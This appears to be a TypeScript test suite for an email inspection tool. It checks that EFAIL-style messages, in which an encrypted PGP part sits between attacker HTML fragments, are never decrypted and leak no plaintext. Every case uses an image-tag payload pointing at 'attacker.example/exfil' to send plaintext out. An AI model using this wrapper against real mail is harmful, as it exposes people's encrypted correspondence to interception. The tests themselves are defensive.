/**
 * EFAIL direct exfiltration (Poddebniak et al., USENIX Security 2018): an
 * attacker who captured a ciphertext sent to Alice wraps it between two
 * attacker-controlled HTML parts, `<img src="http://attacker.example/?` and
 * `">`. A client that decrypts the middle part and renders the whole
 * message as one HTML document sends the plaintext to the attacker's server.
 *
 * What must not happen: the encrypted part, which is not the root, is
 * decrypted; its plaintext shows up anywhere in the report. What the report
 * says: encryption none, a partially-encrypted warning, the part listed as
 * not-decrypted.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import {
  setup,
  message,
  textPart,
  part,
  multipart,
  pgpMimeEncrypted,
  encryptTo,
  inspect,
  assertNowhere,
  warningCodes,
  secretToken,
  type Setup,
  type Inspected,
} from '../support/mail.ts';
import { runSealpost } from '../support/cli.ts';

let s: Setup;
let secret: string;
let inner: Buffer;
let armored: string;

before(async () => {
  s = await setup();
  secret = secretToken('LAUNCHCODE');
  inner = textPart(`The launch code is ${secret}.\n`);
  // Signed by Bob too: a decryption would also surface as a valid signature.
  armored = await encryptTo(inner, [s.alice.cert], s.bob.key);
});
after(() => s?.cleanup());

const HEADERS = { From: 'Bob Babbage <bob@openpgp.example>', To: 'Alice Lovelace <alice@openpgp.example>', Subject: 'Re: the plan' };
const IMG_OPEN = '<html><body><img src="http://attacker.example/exfil?';
const IMG_CLOSE = '"></body></html>';
const html = (text: string) => textPart(text, 'text/html; charset=utf-8');

function assertNotDecrypted(got: Inspected, path: string): void {
  const r = got.report;
  assert.equal(r.encryption.status, 'none', 'the root is not encrypted: encryption.status none');
  assert.equal(r.encryption.integrity, null);
  assert.deepEqual(r.encryption.recipients, []);
  assert.equal(r.signature.status, 'none', 'nothing decrypted, so no signature from inside the ciphertext');
  assert.equal(r.signature.signer, null);
  assert.ok(warningCodes(r).includes('partially-encrypted'), `partially-encrypted warning, got ${warningCodes(r).join(', ')}`);
  const entry = r.parts.find((p) => p.path === path);
  assert.ok(entry, `part ${path} listed; parts: ${JSON.stringify(r.parts)}`);
  assert.equal(entry.encrypted, true);
  assert.equal(entry.status, 'not-decrypted');
  assert.ok(!r.parts.some((p) => p.status === 'decrypted'), 'no part decrypted');
  assertNowhere(got, secret, inner);
}

test('control: the same ciphertext as the whole message is decrypted (the test data is real)', async () => {
  const got = await inspect(s, message(HEADERS, pgpMimeEncrypted(armored)));
  assert.equal(got.report.encryption.status, 'decrypted');
  assert.equal(got.report.signature.status, 'valid');
  assert.ok(got.report.text.includes(secret));
});

test('multipart/mixed: <img src="...? + multipart/encrypted + "> : not decrypted', async () => {
  const msg = message(HEADERS, multipart('mixed', [html(IMG_OPEN), pgpMimeEncrypted(armored), html(IMG_CLOSE)]));
  const got = await inspect(s, msg);
  assertNotDecrypted(got, '2');
});

test('multipart/mixed: <img src="...? + a raw text/plain PGP MESSAGE part + "> : not decrypted', async () => {
  const msg = message(HEADERS, multipart('mixed', [html(IMG_OPEN), textPart(armored), html(IMG_CLOSE)]));
  assertNotDecrypted(await inspect(s, msg), '2');
});

test('multipart/mixed: <img src="...? + application/pgp-encrypted part + "> : not decrypted', async () => {
  const msg = message(
    HEADERS,
    multipart('mixed', [html(IMG_OPEN), part([['Content-Type', 'application/pgp-encrypted']], armored), html(IMG_CLOSE)]),
  );
  assertNotDecrypted(await inspect(s, msg), '2');
});

test('multipart/mixed: <img src="...? + armored application/octet-stream part + "> : not decrypted', async () => {
  const msg = message(
    HEADERS,
    multipart('mixed', [html(IMG_OPEN), part([['Content-Type', 'application/octet-stream']], armored), html(IMG_CLOSE)]),
  );
  assertNotDecrypted(await inspect(s, msg), '2');
});

test('the EFAIL wrapper one level down (multipart/alternative > multipart/mixed): not decrypted', async () => {
  const efail = multipart('mixed', [html(IMG_OPEN), pgpMimeEncrypted(armored), html(IMG_CLOSE)]);
  const msg = message(HEADERS, multipart('alternative', [textPart('Please see the HTML version.'), efail]));
  assertNotDecrypted(await inspect(s, msg), '2.2');
});

test('inline: the ciphertext in a text/plain body between attacker text: not decrypted', async () => {
  const msg = message(HEADERS, `${IMG_OPEN}\n${armored}\n${IMG_CLOSE}\n`);
  assertNotDecrypted(await inspect(s, msg), '1');
});

test('inline: the ciphertext in a text/plain part between attacker HTML parts: not decrypted', async () => {
  const msg = message(HEADERS, multipart('mixed', [html(IMG_OPEN), textPart(`Dear Alice,\n${armored}\nRegards`), html(IMG_CLOSE)]));
  assertNotDecrypted(await inspect(s, msg), '2');
});

test('inline: the ciphertext inside the img attribute of a text/html body: not decrypted, plaintext nowhere', async () => {
  const msg = message(HEADERS, html(`${IMG_OPEN}\n${armored}\n${IMG_CLOSE}`));
  const got = await inspect(s, msg);
  assert.equal(got.report.encryption.status, 'none');
  assert.equal(got.report.signature.status, 'none');
  assert.ok(!got.report.parts.some((p) => p.status === 'decrypted'));
  assertNowhere(got, secret, inner);
});

test('the human-readable report (no --json) of the EFAIL message shows no plaintext either', async () => {
  const path = s.file(
    'efail-human.eml',
    message(HEADERS, multipart('mixed', [html(IMG_OPEN), pgpMimeEncrypted(armored), html(IMG_CLOSE)])),
  );
  const r = await runSealpost(['--passphrase-file', s.passphraseFile, 'inspect', path], { home: s.home });
  assert.equal(r.code, 0, r.stderr);
  assert.ok(!r.stdout.toString('utf8').includes(secret));
  assert.ok(!r.stderr.includes(secret));
  assert.match(r.stdout.toString('utf8'), /Encryption: none/);
});
